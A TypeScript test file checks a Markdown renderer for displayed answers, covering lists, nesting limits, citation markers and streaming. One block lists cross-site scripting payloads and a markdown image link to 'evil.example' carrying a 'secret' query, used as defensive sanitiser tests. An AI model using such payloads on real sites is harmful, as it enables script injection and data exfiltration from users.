import { parseHTML } from 'linkedom'
import { beforeAll, describe, expect, it } from 'vitest'
import { renderMarkdown } from '../static/markdown.js'

beforeAll(() => {
  globalThis.document = parseHTML('<!doctype html><html><body></body></html>').document
})

function html(text: string, marker: (n: number, at: number) => Node | undefined = () => undefined) {
  const div = document.createElement('div')
  div.append(renderMarkdown(text, marker))
  return div
}

describe('the Markdown of answers', () => {
  it('knows paragraphs, lists, code, tables, bold', () => {
    const div = html(
      '# Title\nOne **two** `three`\nfour\n\n- a\n- b\n\n2. c\n3. d\n\n```js\n<b>&</b>\n```\n| x | y |\n|---|---|\n| 1 | 2 |',
    )
    expect(div.querySelector('h3')?.textContent).toBe('Title')
    expect(div.querySelector('p')?.innerHTML).toBe('One <strong>two</strong> <code>three</code><br>four')
    expect([...div.querySelectorAll('ul li')].map((item) => item.textContent)).toEqual(['a', 'b'])
    expect([...div.querySelectorAll('ol li')].map((item) => item.textContent)).toEqual(['c', 'd'])
    expect(div.querySelector('pre code')?.textContent).toBe('<b>&</b>')
    expect([...div.querySelectorAll('tr')].map((row) => [...row.querySelectorAll('td')].map((cell) => cell.textContent?.trim()))).toEqual([
      ['x', 'y'],
      ['1', '2'],
    ])
  })

  it('nests lists by their indentation', () => {
    const shape = (text: string) => html(text).innerHTML.replace(/ start="1"/g, '')
    expect(shape('1. a\n   - b\n   - c\n     1) d\n2. e\n\n   - f\n- g')).toBe(
      '<ol><li>a<ul><li>b</li><li>c<ol><li>d</li></ol></li></ul></li><li>e<ul><li>f</li></ul></li></ol><ul><li>g</li></ul>',
    )
    expect(shape('- a\n\t- b\n- c')).toBe('<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>')
    const deep = Array.from({ length: 300 }, (_, i) => `${' '.repeat(2 * i)}- x`).join('\n')
    expect(html(deep).querySelectorAll('ul ul ul ul ul ul ul ul').length).toBe(0)
    expect(html(deep).querySelectorAll('li').length).toBe(300)
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[click](javascript:alert(1))',
    '![pixel](https://evil.example/?q=secret)',
    '<svg/onload=alert(1)>',
    '- <iframe src="https://evil.example"></iframe>',
    '| <a href="https://evil.example">x</a> | y |',
    '**<b onclick=alert(1)>**',
    '```\n</code></pre><script>alert(1)</script>\n```',
    '<https://evil.example>',
  ])('keeps %j as text', (text) => {
    const div = html(text)
    expect(div.querySelectorAll('script, img, a, svg, iframe, b, [onclick], [src], [href]').length).toBe(0)
    expect(div.textContent).toMatch(/alert|evil/)
  })

  it('gives each marker its number and its place in the whole text', () => {
    const text = '第一句 [1]。\n\n- 第二句【2, 3】\n- **bold [1]**\n\n[9]'
    const seen: [number, string | undefined][] = []
    const div = html(text, (n, at) => {
      seen.push([n, text[at]])
      return n === 9 ? undefined : document.createElement('button')
    })
    expect(seen).toEqual([
      [1, '['],
      [2, '【'],
      [3, '【'],
      [1, '['],
      [9, '['],
    ])
    expect(div.querySelectorAll('button').length).toBe(4)
    expect(div.textContent).toContain('[9]')
  })

  it('shows every half of a text while it streams', () => {
    const text = 'A **bold** `code` [1]\n```\nx\n```\n| a | b |\n1. z'
    for (let end = 0; end <= text.length; end++) expect(() => html(text.slice(0, end))).not.toThrow()
  })
})
